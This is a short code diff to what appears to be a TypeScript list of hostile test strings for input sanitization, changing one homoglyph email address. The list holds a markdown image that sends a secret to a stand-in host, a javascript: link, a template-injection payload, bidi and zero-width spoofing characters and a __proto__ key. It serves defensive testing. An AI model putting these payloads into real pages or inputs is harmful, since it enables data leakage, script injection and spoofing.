@@ -9,7 +9,7 @@ const texts = [
   "![pixel](https://px.example/?d=secret)",
   "[open](javascript:alert(3))",
   "{{constructor.constructor('alert(4)')()}}",
-  "o.mill\u0435r@example.com",
+  "o.pump\u0435r@example.com",
   "left\u202Eright \u200Bhidden",
   "__proto__",
 ] as const;
